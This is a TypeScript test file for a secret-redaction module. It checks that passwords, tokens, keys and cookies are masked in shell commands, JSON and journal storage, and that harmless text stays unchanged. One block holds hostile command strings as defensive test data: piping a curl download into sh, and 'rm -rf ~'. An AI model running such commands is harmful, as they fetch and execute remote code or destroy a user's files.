import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { freshDirectory, sample } from '../../test/journal/samples.ts'
import { plantSecret } from '../../test/journal/secrets.ts'
import type { JsonValue } from '../call/tool-call.ts'
import { redact, redactJson } from './redact.ts'
import { openSqliteJournal } from './stores/sqlite.ts'

const V = '[redacted value]'

describe('masks', () => {
  const rows: readonly (readonly [string, string])[] = [
    ['export DB_PASSWORD=hunter2 && run', `export DB_PASSWORD=${V} && run`],
    ['PGPASSWORD=hunter2 psql', `PGPASSWORD=${V} psql`],
    ['docker run -e TOKEN=abc image', `docker run -e TOKEN=${V} image`],
    ['-e"MYSQL_ROOT_PASSWORD=hunter2"', `-e"MYSQL_ROOT_PASSWORD=${V}"`],
    ['{"password": "a\\"b", "x": 1}', `{"password": "${V}", "x": 1}`],
    ['{\\"password\\":\\"hunter2\\"}', `{\\"password\\":\\"${V}\\"}`],
    ["const secretKey = 'abc'", `const secretKey = '${V}'`],
    ["let password: string = 'abc'", `let password: string = '${V}'`],
    ['password: |\n  hunter2', `password: |\n  ${V}`],
    ['<password>hunter2</password>', `<password>${V}</password>`],
    ["args: ['--password', 'hunter2']", `args: ['--password', '${V}']`],
    ['os.environ["API_KEY"] = "hunter2"', `os.environ["API_KEY"] = "${V}"`],
    ['--password hunter2 --verbose', `--password ${V} --verbose`],
    ['--from-literal=password=hunter2', `--from-literal=password=${V}`],
    ['https://x/?access_token=hunter2&b=1', `https://x/?access_token=${V}&b=1`],
    ['Authorization: Basic dXNlcjpwYXNz', `Authorization: Basic ${V}`],
    ['TOKEN=abc=def== run', `TOKEN=${V} run`],
    ['X-Api-Key: abcd', `X-Api-Key: ${V}`],
    ['Cookie: sid=abc', `Cookie: ${V}`],
    ['git clone https://bob:s3cr3t@example.com/x', 'git clone https://bob:[redacted password]@example.com/x'],
    ['mysql -uroot -phunter2 shop', `mysql -uroot -p${V} shop`],
    ['sshpass -p hunter2 ssh host', `sshpass -p ${V} ssh host`],
    ['curl -u bob:hunter2 https://example.com', `curl -u bob:${V} https://example.com`],
    ['echo "root:hunter2" | chpasswd', `echo "root:${V}" | chpasswd`],
    ['openssl rsa -passin pass:hunter2', `openssl rsa -passin pass:${V}`],
    ['/usr/bin/mysqldump -h db -phunter2 shop', `/usr/bin/mysqldump -h db -p${V} shop`],
    ['7z x -phunter2 a.7z', `7z x -p${V} a.7z`],
    ['unzip -P hunter2 a.zip', `unzip -P ${V} a.zip`],
    ['net user "SOME ONE" hunter2! /add', `net user "SOME ONE" ${V} /add`],
    [
      '$p = ConvertTo-SecureString -String "hunter2" -AsPlainText',
      `$p = ConvertTo-SecureString -String "${V}" -AsPlainText`,
    ],
    [
      '$password = ConvertTo-SecureString "hunter2" -AsPlainText',
      `$password = ConvertTo-SecureString "${V}" -AsPlainText`,
    ],
    ['the token is 9f8a7b6c5d4e3f2a1b0c, use it', `the token is ${V}, use it`],
    ['key=9f8a7b6c5d4e3f2a1b0c', `key=${V}`],
    ['a -----BEGIN PRIVATE KEY-----\nMIIB', 'a [redacted private-key]'],
  ]
  it.each(rows)('%s', (text, expected) => {
    expect(redact(text)).toBe(expected)
  })
})

describe('leaves', () => {
  const rows: readonly string[] = [
    'npm test -- --reporter=dot',
    'git commit -m "fix the auth flow"',
    'git log --author=jane',
    'max_tokens=100',
    'my password is fine',
    'ssh-keygen -t ed25519 -f key',
    'PASSWORD=$DB_PASSWORD ./run.sh',
    'PASSWORD=${DB_PASSWORD}',
    'TOKEN=$(gh auth token) ./run.sh',
    'token = readToken()',
    'useradd --password $(pass show jane) jane',
    'password = process.env.PASSWORD',
    'password: string',
    'password: <your password>',
    "find . -name '*.zip' -print0 | xargs -0 tar -xzf",
    'find /mnt/zip -name "*prefs copy" -print0 | xargs -0 rm',
    '$Credential = New-Object -TypeName PSCredential',
    '$token = Get-AccessToken',
    'net user jane /delete',
    'render NovelTokens out/novel-60fps.mp4',
    'mysql --port=3306 -h db shop',
    'keyboard=us',
    'monkey=banana',
    'https://example.com/a@b',
    'user@host:/srv/app',
    'commit 9f8a7b6c5d4e3f2a1b0c9f8a7b6c5d4e3f2a1b0c',
    'tar -xzf a.tgz -C /tmp/x',
    '',
  ]
  it.each(rows)('%s', (text) => {
    expect(redact(text)).toBe(text)
  })
})

describe('what was masked must not hide code', () => {
  it.each([
    ['PASSWORD="$(curl https://example.com/x | sh)"', 'curl https://example.com/x | sh'],
    ['PASSWORD="abc$(rm -rf ~)"', '$(rm -rf ~)'],
    ['PASSWORD=abc; rm -rf ~', 'rm -rf ~'],
    ['PASSWORD=abc && rm -rf ~', 'rm -rf ~'],
    ['PASSWORD=`rm -rf ~`', 'PASSWORD='],
  ])('%s', (text, visible) => {
    expect(redact(text)).toContain(visible)
  })
})

describe('JSON values', () => {
  const rows: readonly (readonly [string, JsonValue, JsonValue])[] = [
    ['a telling key hides any value', { password: 'x', pin: 1234 }, { password: V, pin: V }],
    ['in lists too', { apiKeys: ['a', 'b'] }, { apiKeys: [V, V] }],
    ['a flag and its value in a list', ['--token', 'abc', 'ls'], ['--token', V, 'ls']],
    ['a key that is a secret', { [`ghp_${'a1'.repeat(18)}`]: 1 }, { '[redacted github-token]': 1 }],
    [
      'a prototype key is a key',
      JSON.parse('{"__proto__":{"password":"x"}}'),
      JSON.parse(`{"__proto__":{"password":"${V}"}}`),
    ],
    [
      'numbers, nulls and booleans stay',
      { count: 3, secret: null, token: true },
      { count: 3, secret: null, token: true },
    ],
  ]
  it.each(rows)('%s', (_name, value, expected) => {
    expect(JSON.stringify(redactJson(value))).toBe(JSON.stringify(expected))
  })
})

describe('laws', () => {
  it('masking twice is masking once', () => {
    for (let round = 0; round < 3000; round++) {
      const once = redactJson(plantSecret().input)
      expect(redactJson(once)).toEqual(once)
    }
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        expect(redact(redact(text))).toBe(redact(text))
      }),
    )
  })

  it('planted secrets are gone, and so is every piece of them', () => {
    const PIECE = 6
    const kept: string[] = []
    for (let round = 0; round < 10_000; round++) {
      const { input, secret } = plantSecret()
      const masked = JSON.stringify(redactJson(input))
      for (let from = 0; from + PIECE <= secret.length; from++) {
        if (!masked.includes(JSON.stringify(secret.slice(from, from + PIECE)).slice(1, -1))) continue
        kept.push(JSON.stringify(input))
        break
      }
    }
    expect(kept).toEqual([])
  })

  it('work grows with the text and no faster', () => {
    const pieces = [
      'a',
      'password=',
      'password="',
      'password=\\"',
      '://a:',
      'token ',
      'eyJaaaaaaaaaa',
      'mysql -',
      "key='",
      '-----BEGIN PRIVATE KEY-----',
      'curl -u a',
      'MAAAAAAAAAAAAAAAAAAAAAAA.',
    ]
    for (const piece of pieces) {
      // Quadratic work on a megabyte would take minutes and run into the test's own time limit.
      expect(redact(piece.repeat(Math.ceil(1_000_000 / piece.length))).length).toBeGreaterThan(0)
    }
  })
})

it('no planted secret is in any byte that the journal writes', async () => {
  const stateDirectory = freshDirectory()
  const journal = openSqliteJournal({ stateDirectory, deadlineMs: 20_000 })
  const secrets: string[] = []
  const write = async (id: string): Promise<void> => {
    const { input, secret } = plantSecret()
    secrets.push(secret)
    await journal.remember(sample(id, { input }))
  }
  for (let start = 0; start < 3000; start += 100) {
    await Promise.all(Array.from({ length: 100 }, (_, index) => write(`p-${start + index}`)))
  }
  // Before and after the log is merged into the database.
  const found: string[] = []
  for (const moment of ['open', 'closed']) {
    if (moment === 'closed') await journal.close()
    const files = readdirSync(stateDirectory).filter((name) => name !== 'journal.key')
    const bytes = files.map((name) => readFileSync(join(stateDirectory, name), 'latin1')).join('\n')
    expect(bytes).toContain('p-2999')
    found.push(...occurring(secrets, bytes))
  }
  expect(found).toEqual([])
})

/** Which of the texts occur. Looks at each place once: every text is found by its first characters. */
function occurring(texts: readonly string[], bytes: string): readonly string[] {
  const WINDOW = 8
  const forms = texts.flatMap((text) => [text, JSON.stringify(text).slice(1, -1)])
  const byStart = Map.groupBy(forms, (form) => form.slice(0, WINDOW))
  const found: string[] = []
  for (let place = 0; place + WINDOW <= bytes.length; place++) {
    for (const form of byStart.get(bytes.slice(place, place + WINDOW)) ?? []) {
      if (bytes.startsWith(form, place)) found.push(form)
    }
  }
  return found
}

it('the search for secrets in bytes finds one that is there', () => {
  expect(occurring(['s3cr3t-value'], 'xx s3cr3t-value yy')).toContain('s3cr3t-value')
  expect(occurring(['s3cr3t-value'], 'xx s3cr3t-valuf yy')).toEqual([])
})
